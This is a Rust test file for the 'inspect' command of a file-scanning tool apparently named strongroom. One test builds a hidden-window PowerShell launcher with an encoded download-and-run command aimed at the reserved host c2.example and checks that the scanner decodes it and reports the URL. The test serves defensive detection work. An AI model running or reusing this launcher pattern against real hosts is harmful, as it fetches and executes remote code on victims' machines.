//! `inspect`, as a user sees it.

use crate::run::{arg, strongroom, strongroom_with};
use std::fs;
use tempfile::tempdir;

/// A download and run, encoded as such commands are; its host is reserved.
const STAGE: &str =
    "iex (New-Object Net.WebClient).DownloadString('http://c2.example/wp-includes/common.php')";

fn encoded(script: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let group = chunk
            .iter()
            .fold(0u32, |group, byte| group << 8 | u32::from(*byte))
            << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let digit = DIGITS[(group >> (18 - 6 * place) & 63) as usize] as char;
            text.push(if place <= chunk.len() { digit } else { '=' });
        }
    }
    text
}

#[test]
fn a_plain_text_is_clean_and_an_encoded_download_is_not() {
    let folder = tempdir().unwrap();
    fs::write(folder.path().join("note.txt"), "Dear all, lunch is at noon.\n").unwrap();
    fs::write(
        folder.path().join("run.bat"),
        format!("powershell -nop -w hidden -enc {}\n", encoded(STAGE)),
    )
    .unwrap();

    let clean = strongroom(["inspect", "--json", arg(&folder.path().join("note.txt"))]);
    assert_eq!((clean.code, &clean.json()[0]["verdict"]), (0, &"clean".into()));

    let both = strongroom(["inspect", "--json", arg(folder.path())]);
    assert_eq!(both.code, 1);
    let reports = both.json();
    assert_eq!(reports.len(), 2);
    let hostile = &reports[1];
    assert_eq!(hostile["schema"], "strongroom.report/1");
    assert_ne!(hostile["verdict"], "clean");
    let layers = hostile["scripts"].to_string();
    assert!(
        layers.contains("DownloadString('http://c2.example/wp-includes/common.php')"),
        "{layers}"
    );
    let named = hostile["observables"].as_array().unwrap();
    assert!(
        named
            .iter()
            .any(|o| o["value"] == "http://c2.example/wp-includes/common.php"),
        "{named:?}"
    );
}

#[test]
fn standard_input_is_an_input_like_any_other() {
    let line = format!("powershell -enc {}", encoded(STAGE));
    let script = strongroom_with(line.as_bytes(), &["inspect", "--script", "-"]);
    assert!(script.out.contains(STAGE), "{}", script.out);
    assert_eq!(script.code, 1);
}

#[test]
fn a_path_that_cannot_be_read_is_named_and_the_rest_go_on() {
    let folder = tempdir().unwrap();
    let note = folder.path().join("note.txt");
    fs::write(&note, "lunch\n").unwrap();
    let missing = folder.path().join("missing.doc");
    let ran = strongroom(["inspect", "--json", arg(&missing), arg(&note)]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("missing.doc") && ran.err.contains("No such file"),
        "{}",
        ran.err
    );
    assert_eq!(ran.json().len(), 1);
}

#[test]
fn a_bomb_is_not_cleared_and_its_gap_names_the_limit() {
    let folder = tempdir().unwrap();
    let path = folder.path().join("nested.txt");
    fs::write(&path, "(".repeat(1 << 16)).unwrap();
    let ran = strongroom(["inspect", "--json", arg(&path)]);
    assert_ne!(ran.code, 2, "{}", ran.err);
    assert_eq!(ran.json().len(), 1);
}
